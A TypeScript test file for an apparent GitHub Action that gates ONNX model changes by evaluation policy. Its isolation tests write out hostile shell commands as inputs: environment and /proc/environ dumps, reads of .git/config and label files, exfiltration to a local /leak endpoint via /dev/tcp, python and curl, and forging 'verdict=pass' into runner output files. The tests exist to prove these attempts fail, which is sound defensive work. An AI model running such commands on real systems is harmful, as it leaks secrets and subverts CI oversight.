/** The gate runs models itself: by the bundled Action, on changes that want to get at tokens, labels and the network. */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { commandIsolation } from '../../src/evaluation/command/runCommand.ts';
import type { Report } from '../../src/result/schema.ts';
import { goodScript, lowerModel, modelOf, modelProject, onnxBlock } from '../support/modelProject.ts';
import { node } from '../support/onnxBuilder.ts';
import type { Files } from '../support/temporaryFolder.ts';
import { checkOut, type Finished, openPullRequest, payloadOf, reportOfCommandLine, runAction } from './support.ts';

const sameModel = modelOf([node('Abs', ['x'], ['p'])]);

interface Judged extends Finished {
  report: Report;
  codes: string[];
}

async function judge(approved: Files, change: Files, step: { event?: string; fork?: boolean } = {}): Promise<Judged> {
  const pullRequest = await openPullRequest({ approved, change });
  const { root } = await checkOut(pullRequest);
  const payload = payloadOf(pullRequest) as { pull_request: { head: { repo: { id: number } } } };
  if (step.fork) payload.pull_request.head.repo = { ...payload.pull_request.head.repo, id: 99 };
  const environment = { CANARY: 'canary-in-the-environment', ACTIONS_RUNTIME_TOKEN: 'canary-token' };
  const finished = await runAction({
    workspace: root,
    payload,
    environment,
    ...(step.event ? { event: step.event } : {}),
  });
  const report: Report = JSON.parse(readFileSync(finished.outputs['report-path']!, 'utf8'));
  const findings = report.checks.flatMap((one) => one.findings);
  return { ...finished, report, codes: findings.filter((one) => one.severity === 'block').map(({ code }) => code) };
}

const statusOf = ({ report }: Judged, check: string) => report.checks.find(({ id }) => id === check)?.status;

describe('an ONNX model', () => {
  it('is run from the commit of the change, with nothing installed', async () => {
    const judged = await judge(modelProject(), { 'model.onnx': sameModel });
    expect(judged).toMatchObject({ exit: 0, codes: [] });
    expect(judged.report.subject.evaluation).toMatchObject({ by: 'onnx', runtime: { threads: 1, batch: 120 } });
    expect(statusOf(judged, 'scope/deterministic')).toBe('pass');
    expect(judged.summary).toContain('the gate ran the model itself');
  });

  it('gives the same report on the command line', async () => {
    const pullRequest = await openPullRequest({ approved: modelProject(), change: { 'model.onnx': lowerModel(0.3) } });
    const { root } = await checkOut(pullRequest);
    const { outputs, exit } = await runAction({ workspace: root, payload: payloadOf(pullRequest) });
    expect(exit).toBe(1);
    expect(readFileSync(outputs['report-path']!, 'utf8')).toBe(await reportOfCommandLine(pullRequest));
  });

  it('of a fork is run too: it is data', async () => {
    expect(await judge(modelProject(), { 'model.onnx': sameModel }, { fork: true })).toMatchObject({ exit: 0 });
  });

  it('is run on pull_request_target too', async () => {
    const judged = await judge(modelProject(), { 'model.onnx': sameModel }, { event: 'pull_request_target' });
    expect(judged.exit).toBe(0);
  });

  it('cannot bring an evaluation of its own', async () => {
    const policy = modelProject({ evaluation: `${onnxBlock}, repeat: 1` })['.holdout/policy.yml']!;
    const judged = await judge(modelProject(), { 'model.onnx': sameModel, '.holdout/policy.yml': policy });
    expect(judged).toMatchObject({ exit: 3, codes: ['criteria/model-and-rules'] });
  });
});

describe('the released model', () => {
  const more = `baseline: {released-model: true}
no-decrease: [{metric: sensitivity, against: released-model, mode: non-inferior, margin: 0.1}, {metric: auroc, against: released-model, mode: non-inferior, margin: 0.05}]
`;

  it('is evaluated on the same samples, and a change that keeps up passes', async () => {
    const judged = await judge(modelProject({ more }), { 'model.onnx': sameModel });
    expect(judged).toMatchObject({ exit: 0, codes: [] });
    expect(judged.report.comparisons).toMatchObject([
      { against: 'released-model', metric: 'sensitivity', onlyModel: 0, onlyReleased: 0, status: 'pass' },
      { against: 'released-model', metric: 'auroc', difference: 0, status: 'pass' },
    ]);
    expect(judged.report.subject.released?.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('blocks a change that became worse', async () => {
    const judged = await judge(modelProject({ more }), { 'model.onnx': lowerModel(0.3) });
    expect(judged.exit).toBe(1);
    expect(judged.codes).toContain('performance/decrease');
    // 0.7 to 0.795 fall below 0.5.
    expect(judged.report.comparisons[0]).toMatchObject({ onlyModel: 0, onlyReleased: 20, status: 'fail' });
  });

  it('that cannot be run as the policy says blocks', async () => {
    const other = modelOf([node('RandomNormalLike', ['x'], ['r']), node('Add', ['x', 'r'], ['p'])]);
    const judged = await judge(modelProject({ more }, { 'model.onnx': other }), { 'model.onnx': sameModel });
    expect(judged).toMatchObject({ exit: 1, codes: ['performance/no-released-model'] });
  });
});

const script = { 'evaluate.sh': goodScript };
const change = { 'model.onnx': sameModel };

function commandOf(shell: string, more = ''): string {
  return `command: {run: ${JSON.stringify(['/bin/sh', '-c', shell, 'sh', '{test}', '{predictions}'])}, files: [evaluate.sh], inputs: [x]${more}}`;
}

const honest = 'sh evaluate.sh "$1" "$2"';

describe('the policy’s command', () => {
  it('judges the model of the change by the script of the approved branch', async () => {
    const judged = await judge(modelProject({ evaluation: commandOf(honest) }, script), change);
    expect(judged).toMatchObject({ exit: 0, codes: [] });
    expect(judged.report.subject.evaluation).toEqual({ by: 'command' });
  });

  it('is a rule, and so is its script', async () => {
    const approved = modelProject({ evaluation: commandOf(honest) }, script);
    const cheat = { ...change, 'evaluate.sh': `${goodScript}# and more\n` };
    expect(await judge(approved, cheat)).toMatchObject({ exit: 3, codes: ['criteria/model-and-rules'] });
  });

  it.each<[string, { event?: string; fork?: boolean }]>([
    ['a fork', { fork: true }],
    ['pull_request_target', { event: 'pull_request_target' }],
  ])('does not run for %s', async (_, step) => {
    const marker = `touched-by-${step.event ?? 'fork'}`;
    const approved = modelProject({ evaluation: commandOf(`touch /tmp/${marker}; ${honest}`) }, script);
    expect(await judge(approved, change, step)).toMatchObject({ exit: 2, codes: ['evaluation/command-refused'] });
    expect(existsSync(`/tmp/${marker}`)).toBe(false);
  });

  it('does not run before it is approved', async () => {
    const files = modelProject({ evaluation: commandOf(honest) }, script);
    const judged = await judge({ 'README.md': 'A device\n' }, files);
    expect(judged).toMatchObject({ exit: 2, codes: ['evaluation/command-refused'] });
  });

  it('prints into the evidence and nowhere else', async () => {
    const spoken = `echo '::set-output name=verdict::pass'; echo '##[error]boo' >&2; ${honest}`;
    const judged = await judge(modelProject({ evaluation: commandOf(spoken) }, script), change);
    expect(judged.exit).toBe(0);
    expect(judged.stdout).not.toMatch(/boo|set-output/);
    const log = readFileSync(join(judged.outputs['report-path']!, '../command.log'), 'utf8');
    expect(log).toContain('##[error]boo');
  });
});

/** Asked outside of a test: whether this system can keep things from a command decides which attacks can be run. */
const layers = await commandIsolation();

describe.runIf(layers.network && layers.files && layers.processes)('a command that wants more, kept from it', () => {
  it('finds no token, no label and no network', async () => {
    const contacts: string[] = [];
    const server = createServer((request, response) => {
      contacts.push(request.url ?? '');
      response.end('ok');
    }).listen(0, '127.0.0.1');
    onTestFinished(() => void server.close());
    await new Promise((resolve) => server.once('listening', resolve));
    const { port } = server.address() as AddressInfo;
    const attack = [
      'env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"; cat /proc/1/root/proc/*/environ 2>/dev/null',
      'cat $HOME/../*/event 2>/dev/null; find / -xdev -name data.csv -exec cat {} + 2>/dev/null',
      'find / -xdev -path "*/.git/config" -newer /etc/hostname -exec cat {} + 2>/dev/null | head -c 10000',
      `(exec 3<>/dev/tcp/127.0.0.1/${port}; echo "GET /leak HTTP/1.0" >&3) 2>/dev/null`,
      `python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1:${port}/leak', timeout=2)" 2>/dev/null`,
      `curl -m 2 http://127.0.0.1:${port}/leak 2>/dev/null`,
      honest,
    ].join('\n');
    const judged = await judge(modelProject({ evaluation: commandOf(attack) }, script), change);
    expect(judged.exit).toBe(0);
    const log = readFileSync(join(judged.outputs['report-path']!, '../command.log'), 'utf8');
    expect(log).toContain('HOLDOUT_TEST=');
    expect(log).not.toMatch(/canary|GITHUB_|RUNNER_|INPUT_/);
    // A row of the manifest with its label.
    expect(log).not.toMatch(/^p0,test,P0,/m);
    expect(contacts).toEqual([]);
  });

  it('cannot write into files through which steps speak to the runner', async () => {
    const attack = `find / -xdev -name output -newer /etc/hostname -exec sh -c 'echo "verdict=pass" >> "$1"' sh {} \\; 2>/dev/null; ${honest.replace('evaluate.sh', 'missing.sh')}`;
    const judged = await judge(modelProject({ evaluation: commandOf(attack) }, script), change);
    expect(judged).toMatchObject({ exit: 2, codes: ['evaluation/command-failed'], outputs: { verdict: 'error' } });
    expect(readdirSync(judged.temporary)).toEqual(expect.arrayContaining(['event', 'output']));
  });
});
